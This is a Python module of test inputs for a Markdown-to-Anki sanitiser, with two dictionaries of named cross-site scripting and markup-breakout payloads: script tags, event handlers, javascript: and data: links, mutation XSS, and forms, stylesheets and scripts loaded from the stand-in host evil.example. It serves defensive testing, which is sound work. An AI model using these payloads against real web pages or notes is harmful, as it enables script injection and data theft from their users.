"""Bullets of somebody who means harm, by the name of the trick. Every script calls `alert`."""

from __future__ import annotations

# What a browser would run, load or submit.
ACTIVE = {
    "script": "- a <script>alert(1)</script> b",
    "script block": "<script>\nalert(1)\n</script>\n\n- b",
    "script in capitals": "- a <SCRIPT SRC=//evil.example/x.js></SCRIPT> b",
    "script inside script": "- a <scr<script>x</script>ipt>alert(1)</script> b",
    "script cut by NUL": "- a <scr\0ipt>alert(1)</scr\0ipt> b",
    "script in a heading": "# T <script>alert(1)</script>\n\n- b",
    "script in a cell": "| a |\n|---|\n| <script>alert(1)</script> b |",
    "script in a summary": "<details><summary><script>alert(1)</script>Q?</summary>b</details>",
    "script in a wiki link": "- a [[b|<script>alert(1)</script>]]",
    "script in a callout": "> [!question] <script>alert(1)</script>Q?\n> b",
    "script in a definition": "T <script>alert(1)</script>\n: b",
    "script behind a fake comment": "- a <!--><script>alert(1)</script>--> b",
    "script in svg": "- a <svg><script>alert(1)</script></svg> b",
    "svg that loads": "- a <svg/onload=alert(1)> b",
    "picture with handler": "- a <img src=x onerror=alert(1)> b",
    "handler with slash": "- a <img/onerror=alert(1) src=x> b",
    "handler on bold": "- a <b onmouseover='alert(1)'>b</b>",
    "handler over lines": "- a <b\n  onclick=alert(1)>b</b>",
    "frame": "- a <iframe src=javascript:alert(1)></iframe> b",
    "object": "- a <object data=//evil.example/x.swf></object> b",
    "embed": '- a <embed src="//evil.example/x.swf"> b',
    "form": "- a <form action=//evil.example><input name=x></form> b",
    "style sheet": "- a <style>@import url(//evil.example/x.css);</style> b",
    "linked style": '- a <link rel="stylesheet" href="//evil.example/x.css"> b',
    "base": '- a <base href="//evil.example/"> b',
    "refresh": '- a <meta http-equiv="refresh" content="0;url=//evil.example"> b',
    "mutation": "- a <math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img "
    "src=1 onerror=alert(1)&gt;'></math> b",
    "template": "- a <template><img src=x onerror=alert(1)></template> b",
    "script link": "- a [b](javascript:alert(1))",
    "script link in capitals": "- a [b](JaVaScRiPt:alert(1))",
    "script link by reference": "- a [b][x]\n\n[x]: javascript:alert(1)",
    "script link by autolink": "- a <javascript:alert(1)> b",
    "script link in HTML": '- a <a href=" javascript:alert(1)">b</a>',
    "data link": "- a [b](data:text/html,<script>alert(1)</script>)",
    "basic link": "- a [b](vbscript:msgbox)",
}

# What would break out of its place.
QUIET = {
    "script link with entities": "- a [b](java&#115;cript&colon;alert(1))",
    "script link with a tab": '- a <a href="java\tscript:alert(1)">b</a>',
    "title that breaks out": '- a [b](http://a.b "\\" onmouseover=alert(1) x=\\"")',
    "alt that breaks out": '- a ![" onerror="alert(1)](x.png) b',
    "language that breaks out": '- a\n  ```"><script>alert(1)</script>\n  b\n  ```',
    "style that covers Anki": '- a <div style="position:fixed;inset:0">b</div>',
    "class that takes over": '- a <span class="math">$x$</span> <b class="cloze">b</b>',
    "closing what it has not opened": "- a </li></ul></div></body></html> b",
    "attribute never closed": '- a <img src="x\n- b\n- c "> d',
    "maths that ends a script": "- a $</script><script>alert(1)</script>$ b",
    "maths that breaks out": "- a $\\href{javascript:alert(1)}{x}$ b",
    "bidirectional override": "- a \u202e b",
    "field of a template": "- a {{FrontSide}} {{#x}} {{c1::b}}",
    "placeholder of the parser": "- a \x02klzzwxh:0001\x03 \x02amp\x03 b",
    "soft break of the reader": "- a \ue000 b",
}
